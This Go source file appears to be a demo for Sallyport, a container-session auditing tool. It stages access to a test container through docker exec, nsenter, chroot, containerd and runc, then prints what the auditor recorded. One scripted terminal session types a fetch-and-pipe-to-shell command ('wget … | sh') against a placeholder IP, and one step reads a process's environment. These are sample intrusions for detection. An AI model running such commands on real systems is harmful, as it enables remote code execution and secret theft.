package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/sallyport/sallyport/internal/core/event"
	"github.com/sallyport/sallyport/internal/core/session"
	"github.com/sallyport/sallyport/testbed"
	"github.com/sallyport/sallyport/testbed/docker"
	"github.com/sallyport/sallyport/testbed/up"
)

// play plays the scene and shows what Sallyport saw. Whatever happens, the
// engine and up are gone when it returns; the state directory stays.
func play(ctx context.Context, o options) (err error) {
	say("Starting a Docker engine of its own (private socket, no network of this host is touched) …")
	e, err := docker.Start(ctx, docker.Options{})
	if err != nil {
		return err
	}
	defer func() {
		say("\nStopping the engine and removing what it left …")
		err = errors.Join(err, e.Stop())
	}()
	if err := e.Import(ctx, webImage, `HEALTHCHECK --interval=2s CMD ["/bin/sh","-c","test -d /etc"]`); err != nil {
		return err
	}
	if o.capture != "" {
		return record(ctx, o, e)
	}
	say("Starting sallyport up …")
	p, err := up.Start(o.program, o.dir, e)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, p.Stop()) }()
	if err := p.Ready(ctx, e); err != nil {
		return err
	}
	began := time.Now()
	s := &scene{engine: e, ctx: ctx}
	if err := s.play(); err != nil {
		return err
	}
	if err := settle(ctx, p); err != nil {
		return err
	}
	return look(ctx, o, p, began)
}

const webImage = "demo/web:1"

// scene is the stage. Its first error ends the play.
type scene struct {
	engine *docker.Engine
	ctx    context.Context
	err    error
}

// play lets people in by every door.
func (s *scene) play() error {
	say("\nThe scene. Container web has a health check; games, news and backup are Unix users of this host.\n")
	s.step("someone starts web", s.cli("root", "run", "-d", "--name", "web", webImage))
	s.step("someone starts job, a shell script", s.cli("root", "run", "-d", "--name", "job", docker.Image,
		"/bin/sh", "-c", "for i in 1 2 3; do id -u; ls /etc; sleep 1; done"))
	s.step("games, without a terminal", s.cli("games", "exec", "web", "ls", "-l", "/etc"))
	s.step("news, in a terminal", s.terminal("news", "id\nwget -q -O- http://203.0.113.9/x | sh\nexit\n", "exec", "-it", "web", "sh"))
	s.step("backup, in the background", s.cli("backup", "exec", "-d", "web", "sh", "-c", "(sleep 1; ps) & cat /proc/version"))
	if s.err != nil {
		return s.err
	}
	pid, err := s.engine.HostPID(s.ctx, "web")
	if err != nil {
		return err
	}
	id, err := docker.Output(s.engine.CLI(s.ctx, "inspect", "-f", "{{.Id}}", "web"))
	if err != nil {
		return err
	}
	s.step("root, beside every service", s.host("nsenter", "-t", strconv.Itoa(pid), "-m", "-p", "/bin/cat", "/proc/1/environ"))
	s.step("root, by the file system", s.host("chroot", fmt.Sprintf("/proc/%d/root", pid), "/bin/ls", "/"))
	s.step("root, by containerd", s.engine.Ctr(s.ctx, "task", "exec", "--exec-id", "maintenance", id, "/bin/df"))
	s.step("root, by the runtime", s.engine.Runc(s.ctx, "exec", id, "/bin/ps"))
	return s.err
}

// step shows and runs one command. Its exit status is part of the scene.
func (s *scene) step(who string, cmd *exec.Cmd) {
	if s.err != nil || s.ctx.Err() != nil {
		s.err = errors.Join(s.err, s.ctx.Err())
		return
	}
	say("  %-35s %s", who, strings.ReplaceAll(line(cmd), s.engine.Dir, "…"))
	_, err := docker.Output(cmd)
	if exit := new(exec.ExitError); err != nil && (!errors.As(err, &exit) || exit.ExitCode() > 124) {
		s.err = err
	}
}

// line is the command line as a person would have typed it.
func line(cmd *exec.Cmd) string {
	words := []string{filepath.Base(cmd.Args[0])}
	for _, a := range cmd.Args[1:] {
		if len(a) == 64 {
			a = a[:12]
		}
		if strings.ContainsAny(a, " ;&|$()") {
			a = "'" + a + "'"
		}
		words = append(words, a)
	}
	return strings.Join(words, " ")
}

func (s *scene) cli(name string, args ...string) *exec.Cmd {
	return s.as(name, s.engine.CLI(s.ctx, args...))
}

// as makes cmd run as one of the accounts that every Debian and Ubuntu has.
func (s *scene) as(name string, cmd *exec.Cmd) *exec.Cmd {
	u, err := user.Lookup(name)
	if err != nil {
		s.err = errors.Join(s.err, err)
		return cmd
	}
	uid, err := strconv.ParseUint(u.Uid, 10, 32)
	s.err = errors.Join(s.err, err)
	if uid == 0 {
		return cmd
	}
	return docker.As(cmd, uint32(uid))
}

// terminal runs docker in a terminal of its own, which script(1) makes, and
// types input.
func (s *scene) terminal(name, input string, args ...string) *exec.Cmd {
	docker := s.engine.CLI(s.ctx, args...)
	cmd := exec.CommandContext(s.ctx, "script", "-qec", strings.Join(append([]string{"exec", docker.Path}, args...), " "), "/dev/null")
	cmd.Env = docker.Env
	cmd.Stdin = strings.NewReader(input)
	return s.as(name, cmd)
}

func (s *scene) host(program string, args ...string) *exec.Cmd {
	path, err := testbed.LookPath(program)
	s.err = errors.Join(s.err, err)
	cmd := exec.CommandContext(s.ctx, path, args...)
	cmd.Env = testbed.Environ()
	return cmd
}

// settle waits until every door of the scene has an ended session, for 20 s at
// most: what is late is then simply not shown.
func settle(ctx context.Context, p *up.Process) error {
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); pause(ctx, 300*time.Millisecond) {
		sessions, err := p.Sessions(ctx)
		if err := errors.Join(err, p.Failed(), ctx.Err()); err != nil {
			return err
		}
		ended := make(map[event.Channel]int)
		for _, s := range sessions {
			if s.Target.ContainerName == "web" && s.State != session.StateRunning {
				ended[s.Channel]++
			}
		}
		if ended[event.ChannelDockerExec] >= 3 && ended[event.ChannelDockerHealth] > 0 &&
			ended[event.ChannelHostNsenter] > 0 && ended[event.ChannelHostChroot] > 0 &&
			ended[event.ChannelRuntimeCtr] > 0 && ended[event.ChannelRuntimeRunc] > 0 {
			return nil
		}
	}
	return nil
}

// look prints what Sallyport saw.
func look(ctx context.Context, o options, p *up.Process, began time.Time) error {
	since := began.UTC().Format("2006-01-02T15:04:05.000Z")
	say("\nWhat Sallyport saw. Who asked is known without a proxy; what came in beside the services is unexplained.")
	if err := run(ctx, o.program, "sessions", "--state", p.State, "--since", since); err != nil {
		return err
	}
	sessions, err := p.Sessions(ctx)
	if err != nil {
		return err
	}
	for _, s := range sessions {
		if s.Kind == session.KindExec && s.TTY {
			say("\nThe session of news, in full:")
			if err := run(ctx, o.program, "show", string(s.ID), "--state", p.State, "--evidence"); err != nil {
				return err
			}
			break
		}
	}
	if err := run(ctx, o.program, "verify", "--state", p.State); err != nil {
		return err
	}
	say("\nTo look further:")
	say("  %s sessions --state %s --unexplained", o.program, p.State)
	say("  %s sessions --state %s --json | head -1", o.program, p.State)
	say("  %s doctor        # what this host can see", o.program)
	say("  %s up            # watch this host", o.program)
	return nil
}

// record plays the scene for a capture instead of up: this is how the file that
// other machines replay is made.
func record(ctx context.Context, o options, e *docker.Engine) error {
	cmd := exec.CommandContext(ctx, o.program, "capture", "-o", o.capture, "--docker", e.Address)
	cmd.Stderr = os.Stderr
	cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	if err := cmd.Start(); err != nil {
		return err
	}
	pause(ctx, 5*time.Second) // it does not say when it is ready
	s := &scene{engine: e, ctx: ctx}
	err := s.play()
	pause(ctx, 5*time.Second) // a health check or two, and job's end
	cmd.Process.Signal(syscall.SIGTERM)
	return errors.Join(err, cmd.Wait())
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}
